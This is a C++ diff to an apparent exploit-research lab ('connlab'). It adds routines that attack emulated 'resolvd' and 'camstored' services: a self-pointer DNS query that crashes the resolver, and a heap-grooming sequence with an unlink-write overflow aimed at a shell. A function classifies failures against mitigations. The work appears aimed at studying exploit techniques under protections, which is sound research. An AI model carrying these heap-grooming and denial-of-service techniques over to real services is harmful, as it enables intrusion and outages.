@@ -1,7 +1,10 @@
 #include "src/adapt/retarget.hpp"
 
+#include "src/adapt/camstored.hpp"
+#include "src/adapt/resolvd.hpp"
 #include "src/dns/craft.hpp"
 #include "src/exploit/generator.hpp"
+#include "src/exploit/heap_smash.hpp"
 
 namespace connlab::adapt {
 
@@ -69,6 +72,84 @@ util::Result<AdaptResult> AttackHttpCamd(
   result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
   result.detail = outcome.detail;
   return result;
+}
+
+util::Result<AdaptResult> AttackResolvd(isa::Arch arch,
+                                        const loader::ProtectionConfig& prot,
+                                        std::uint64_t seed) {
+  AdaptResult result;
+  result.service = "resolvd";
+  result.arch = arch;
+  result.prot = prot;
+  result.technique = exploit::Technique::kPointerLoopDos;
+
+  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
+  Resolvd service(*sys);
+  const util::Bytes query = Resolvd::SelfPointerQuery(0x1007);
+  result.payload_bytes = query.size();
+  ServiceOutcome outcome = service.HandleQuery(query);
+  result.kind = outcome.kind;
+  result.shell = false;  // control-flow-free: the crash *is* the payoff
+  result.detail = outcome.detail;
+  return result;
+}
+
+util::Result<AdaptResult> AttackCamstored(isa::Arch arch,
+                                          const loader::ProtectionConfig& prot,
+                                          std::uint64_t seed) {
+  AdaptResult result;
+  result.service = "camstored";
+  result.arch = arch;
+  result.prot = prot;
+  result.technique = exploit::Technique::kHeapUnlinkWrite;
+
+  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, prot, seed));
+  Camstored service(*sys);
+  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile,
+                           service.ProfileFor());
+  CONNLAB_ASSIGN_OR_RETURN(exploit::HeapUnlinkPlan plan,
+                           exploit::BuildHeapUnlinkPlan(profile));
+  result.payload_bytes = plan.overflow_body.size();
+
+  // The groom phase must go through cleanly; anything else means the heap
+  // layout drifted and the plan's addresses are stale.
+  const util::Bytes volley[3] = {
+      Camstored::WrapInPut(plan.benign_body, "pad", plan.groom_size),
+      Camstored::WrapInPut(plan.victim_body, "vic", plan.victim_size),
+      Camstored::WrapInPut(plan.overflow_body, "pad", plan.groom_size),
+  };
+  for (const util::Bytes& request : volley) {
+    ServiceOutcome staged = service.HandleRequest(request);
+    if (staged.kind != ServiceOutcome::Kind::kOk) {
+      result.kind = staged.kind;
+      result.detail = "groom request failed: " + staged.detail;
+      return result;
+    }
+  }
+  // The delete frees the victim whose boundary tags now point at the fake
+  // chunk — the allocator performs the unlink write, the flush hook fires.
+  ServiceOutcome outcome =
+      service.HandleRequest(Camstored::WrapInDelete("vic"));
+  result.kind = outcome.kind;
+  result.shell = outcome.kind == ServiceOutcome::Kind::kShell;
+  result.detail = outcome.detail;
+  return result;
+}
+
+exploit::FailureCause DiagnoseZooFailure(exploit::Technique technique,
+                                         const loader::ProtectionConfig& prot,
+                                         ServiceOutcome::Kind kind) {
+  using Kind = ServiceOutcome::Kind;
+  if (kind == Kind::kShell) return exploit::FailureCause::kNone;
+  if (technique == exploit::Technique::kPointerLoopDos) {
+    // The DoS has no shell stage: the crash is the success condition, and
+    // nothing in the mitigation matrix intercepts a plain resource crash.
+    return kind == Kind::kCrash ? exploit::FailureCause::kNone
+                                : exploit::FailureCause::kOther;
+  }
+  if (kind == Kind::kAbort) return exploit::FailureCause::kHeapIntegrityTrap;
+  if (kind == Kind::kCrash && prot.wx) return exploit::FailureCause::kNxHeap;
+  return exploit::FailureCause::kOther;
 }
 
 }  // namespace connlab::adapt
